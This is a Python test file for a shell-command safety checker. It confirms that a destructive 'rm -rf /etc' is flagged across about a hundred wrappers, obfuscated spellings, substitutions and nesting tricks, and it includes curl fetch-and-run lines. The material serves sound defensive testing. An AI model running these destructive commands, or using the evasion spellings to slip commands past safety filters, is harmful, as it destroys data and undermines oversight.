"""However a dangerous command is wrapped, quoted, fed or spelled, it is found."""

from __future__ import annotations

import pytest

from failproof_es.shell_analysis import parse_commands
from failproof_es.shell_analysis.safety import ReasonCode, judge_safety, judge_safety_many
from tests.every import every

DELETION = "rm -rf /etc"
HARMLESS = "rm -rf build"

WRAPPINGS = [
    "sudo -u root -- {}",
    "env -i A=b {}",
    "nice -n 5 ionice -c2 nohup {}",
    "timeout -k 5 10 {}",
    "flock -n lock {}",
    "setsid stdbuf -oL {}",
    "busybox {}",
    "time -p {}",
    "find x -name y -exec {} \\;",
    "find x -name y -execdir {} +",
    "coproc {}",
    "! {}",
    "true && {}",
    "false || {}",
    "sleep 1; {} &",
    "({})",
    "{{ {}; }}",
    "if {}; then :; fi",
    "if :; then :; elif {}; then :; fi",
    "while {}; do :; done",
    "until :; do {}; done",
    "for i in 1 2; do {}; done",
    "case a in b) {} ;; esac",
    "f() {{ {}; }}",
    'echo "$({})"',
    "echo `{}`",
    "diff <({}) x",
    "x=$({})",
    "[[ -n $({}) ]]",
    ': "${{x:-$({})}}"',
    "cat <<END\n$({})\nEND",
    "sh -c '{}'",
    "bash -lc '{}' name",
    "sudo sh -ec '{}'",
    "su -c '{}' alice",
    "ssh -p 22 host '{}'",
    "watch -n 2 '{}'",
    "eval '{}'",
    "trap '{}' EXIT",
    "alias x='{}'",
    "echo '{}' | sh",
    "printf '%s\\n' '{}' | sudo bash -s",
    "sh <<< '{}'",
    "bash <<END\n{}\nEND",
    "bash <(echo '{}')",
    "echo '{}' > s.sh && sh s.sh",
    "cat > s.sh <<'END'\n{}\nEND\nbash ./s.sh",
    "c='{}'; $c",
    "c='{}'; eval \"$c\"",
    'f() {{ "$@"; }}; f {}',
    'set -- {}; "$@"',
    "python3 -c 'import os; os.system(\"{}\")'",
    "perl -e 'system(\"{}\")'",
    "ruby -e '`{}`'",
    "awk 'BEGIN {{ system(\"{}\") }}'",
    "sudo -ubob {}",
    "sudo --use root -k {}",
    "ssh -oUser=bob -p22 host '{}'",
    "ssh host -p 22 {}",
    "timeout -k5s -sKILL 5 {}",
    "taskset -c0 {}",
    "nice -10 {}",
    "env -S'{}'",
    "env -uHOME -iS 'A=b {}'",
    "su - bob -c '{}'",
    "su -lc'{}' bob",
    "runuser -ubob -- {}",
    "bash -eo pipefail -c '{}'",
    "bash -euxo pipefail +O extglob -c -- '{}'",
    "echo x | xargs -IX {}",
    "echo x | xargs --replace {}",
    "echo x | xargs -n1 -P4 -i {}",
    "flock -w5 lock -c '{}'",
    "script -qc '{}' /dev/null",
    "parallel -j4 ::: '{}'",
    "tmux new -ds x '{}'",
    "tmux send-keys -t x '{}' Enter",
    "screen -dmS x {}",
    "screen -S x -X stuff '{}\\n'",
    "docker --context c exec -itu0 box {}",
    "kubectl -n x exec -it pod -c y -- {}",
    "start-stop-daemon -S -x /usr/bin/env -- {}",
    "capsh --drop=all -- -c '{}'",
    "setarch x86_64 -R {}",
    "chrt -i {}",
    "rsync -aze '{}' a b",
    "exec -a name {}",
    "ssh host <<< '{}'",
    "su - bob <<'END'\n{}\nEND",
    "sudo -i <<< '{}'",
    "chroot /srv <<< '{}'",
    "echo '{}' | xargs -I% sh -c '%'",
    "echo '\"{}\"' | xargs sh -c",
    "printf '%s\\0' '{}' | xargs -0 sh -c",
    "split --filter='{}' f",
    "mapfile -t -C '{}' -c 1 lines < f",
    "complete -C '{}' x",
    "bind -x '\"\\C-x\": {}'",
    "tcpdump -G 60 -z '{}'",
    "dpkg --pre-invoke='{}' -i x.deb",
    "git bisect run {}",
    "git submodule foreach --recursive '{}'",
    "git rebase -x '{}' main",
    "git -C x -c core.pager='{}' log",
    "tar -xf x -I '{}'",
    "docker-compose exec web {}",
    "ssh -o ProxyCommand='{}' host",
]


@pytest.fixture(scope="module", autouse=True)
def wrappings_parsed() -> None:
    """One process parses many, whose trees are then at hand."""
    parse_commands(each.format(text) for each in WRAPPINGS for text in (DELETION, HARMLESS))


@every("wrapping", WRAPPINGS)
def test_a_command_is_found_in(wrapping: str) -> None:
    command = wrapping.format(DELETION)
    assert DELETION in command
    assert ReasonCode.DELETE_BROAD in {reason.code for reason in judge_safety(command).reasons}


@every("wrapping", [each for each in WRAPPINGS if '"$@"; }' not in each])
def test_the_same_wrapping_around_a_harmless_command_is_harmless(wrapping: str) -> None:
    verdict = judge_safety(wrapping.format(HARMLESS))
    assert verdict.safe, verdict.reasons


PLACES = (
    "echo $(({}))", "test $((1 + {}))", "echo $[{}]", "(({}))", "let x={}", "[[ x == {} ]]",
    "[[ -f {} ]]", "[[ x =~ {} ]]", "echo ${{a[{}]}}", "echo ${{#a[{}]}}", "echo ${{x:{}}}",
    "echo ${{x:1:{}}}", "echo ${{x/{}/b}}", "echo ${{x//a/{}}}", "echo ${{x#{}}}",
    "echo ${{x%%{}}}", "echo ${{x:-{}}}", "echo ${{x:={}}}", "echo ${{x:?{}}}", "echo ${{x+{}}}",
    "echo ${{!x:-{}}}", "echo ${{x^^{}}}", 'echo "${{x:{}}}"', "a[{}]=1", "a[{}]+=1",
    "a=([{}]=2 b)", "a=(b {})", "x={}", "x+={}", "declare a[{}]=1", "declare a[{}]",
    "declare -A a=([{}]=2)", "export {}", "local x={}", "case {} in x) ;; esac",
    "case x in {}) ;; esac", "case x in @(a|{})) ;; esac", "for i in {}; do :; done",
    "select i in {}; do :; done", "for ((i={}; i < 2; i++)); do :; done",
    "for ((i = 1; i < {}; i++)); do :; done", "for ((i = 1; i < 2; i += {})); do :; done",
    "echo @({}|b)", "echo !(a|*({}))", "echo {{a,{}}}", "cat < {}", "cat <<< {}", "exec {{fd}}< {}",
    "cat <<END\n{}\nEND", "cat <<END\n$((1 + {}))\nEND", "cat <<END\n${{x/a/{}}}\nEND",
    "cat <<END\n${{x:-$(({}))}}\nEND", "f() {{ echo $(({})); }}", "coproc cat {}", "time cat {}",
    "! cat {}", "cat <(cat {})", "echo $(cat {})", "if [ {} ]; then :; fi",
    "while [ {} ]; do :; done",
)  # fmt: skip
"""Places of a word in shfmt's tree."""


def test_a_substitution_runs_wherever_it_stands() -> None:
    for substitution in (f"$({DELETION})", f"`{DELETION}`"):
        commands = [place.format(substitution) for place in PLACES]
        verdicts = judge_safety_many(commands)
        reasons = [{reason.code for reason in verdict.reasons} for verdict in verdicts]
        missed = [c for c, r in zip(commands, reasons, strict=True) if "DELETE_BROAD" not in r]
        assert missed == []
    harmless = [place.format(f"$({HARMLESS})") for place in PLACES]
    verdicts = judge_safety_many(harmless)
    assert [c for c, v in zip(harmless, verdicts, strict=True) if not v.safe] == []


def test_an_unknown_text_keeps_the_origin_of_each_word_in_it() -> None:
    for text in ("${y/a/$(curl x.io)}", "${y:$(curl x.io)}", "$((1 + $(curl x.io)))"):
        reasons = judge_safety(f'x={text}; sh -c "$x"').reasons
        assert ReasonCode.REMOTE_EXEC in {reason.code for reason in reasons}


@every(
    "spelling",
    [
        "\\rm -rf /etc",
        "'rm' -rf '/etc'",
        'r""m -r"f" /e"t"c',
        "/bin/rm -rf /etc",
        "rm -rf //etc/./",
        "rm -rf /usr/../etc",
        "rm -rf /et{c,x}",
        "rm -rf /e*",
        "rm -rf /et?",
        "rm -rf /[e]tc",
        "rm -rf $'/\\x65tc'",
        "rm -rf ${x:-/etc}",
        "d=/etc; rm -rf $d",
        "d=/e; d+=tc; rm -rf $d",
        "cd /; rm -rf etc",
        "cd / && rm -rf ./etc",
        "rm -rf $(echo /etc)",
        "rm -rf \\\n /etc",
        "rm /etc -rf",
        "rm -rf build /etc",
        "rm -rf -- /etc",
        "$'rm' -rf /etc",
        "$(echo rm) -rf /etc",
        "`which rm` -rf /etc",
        "for d in lib etc; do rm -rf /$d; done",
        "echo /etc | xargs rm -rf",
        "echo /etc | while read d; do rm -rf $d; done",
        "xargs -I{} rm -rf /{} <<< etc",
    ],
)
def test_a_path_is_found_however_it_is_spelled(spelling: str) -> None:
    assert ReasonCode.DELETE_BROAD in {reason.code for reason in judge_safety(spelling).reasons}


@every(
    ("maybe_empty", "never_empty"),
    [
        ('rm -rf "$D/"', 'rm -rf "${D:?}/"'),
        ("rm -rf $D/*", "rm -rf ${D:?}/*"),
        ('rm -rf "$D"/lib', 'rm -rf "${D:-build}"/lib'),
        ("D=; rm -rf $D/", "D=build; rm -rf $D/"),
        ("cd $D && rm -rf *", 'cd "$(mktemp -d)" && rm -rf *'),
    ],
)
def test_a_variable_that_may_be_empty_is_judged_as_empty_too(
    maybe_empty: str, never_empty: str
) -> None:
    assert not judge_safety(maybe_empty).safe
    assert judge_safety(never_empty).safe


@every(
    ("text", "code"),
    [("", "empty"), ("# rm", "only_comment"), ("a\0b", "nul"), ("x" * 5000, "too_long")],
)
def test_what_is_no_command_is_unsafe_and_says_why(text: str, code: str) -> None:
    verdict = judge_safety(text)
    assert [reason.code for reason in verdict.reasons] == [ReasonCode.UNPARSEABLE]
    assert verdict.reasons[0].detail.startswith(code)


@every(
    "hiding",
    [
        "".join(f"a{n}() {{ a{n - 1}; a{n - 1}; }}; " for n in range(1, 30)) + "a29",
        "find a b c d -exec " * 12 + "rm {}",
        "sudo " * 700 + "ls",
        "python3 -c '" + "".join(f'os.system("ls {n}");' for n in range(120)) + "'",
        "x=$(" * 24 + "ls" + ")" * 24 + "; ls;" * 900,
    ],
)
def test_a_text_that_could_hide_something_behind_much_is_unsafe(hiding: str) -> None:
    assert ReasonCode.UNPARSEABLE in {reason.code for reason in judge_safety(hiding).reasons}


def test_a_command_behind_many_harmless_ones_is_found() -> None:
    calls = "".join(f'os.system("ls {n}"); ' for n in range(60))
    assert judge_safety(f"python3 -c 'import os; {calls}'").safe
    assert not judge_safety(f"python3 -c 'import os; {calls} os.system(\"{DELETION}\")'").safe


def test_a_function_that_runs_whatever_it_is_given_is_dynamic() -> None:
    reasons = judge_safety('run() { "$@"; }; run ls').reasons
    assert [reason.code for reason in reasons] == [ReasonCode.DYNAMIC_COMMAND]


def test_a_verdict_names_the_versions_that_judged() -> None:
    assert judge_safety("ls").version.startswith("safety-")
    assert " shfmt-" in judge_safety("ls").version


def test_marks_in_the_text_itself_mean_nothing() -> None:
    assert judge_safety("echo \ufdd1\ufdd3 | cat").safe
    assert not judge_safety("rm -rf / \ufdd7").safe


def test_commands_in_each_other_without_end_come_to_an_end() -> None:
    text = "ls"
    for _ in range(14):
        text = "eval " + text
    assert [reason.code for reason in judge_safety(text).reasons] == [ReasonCode.UNPARSEABLE]
    assert judge_safety("f() { f; }; f").safe
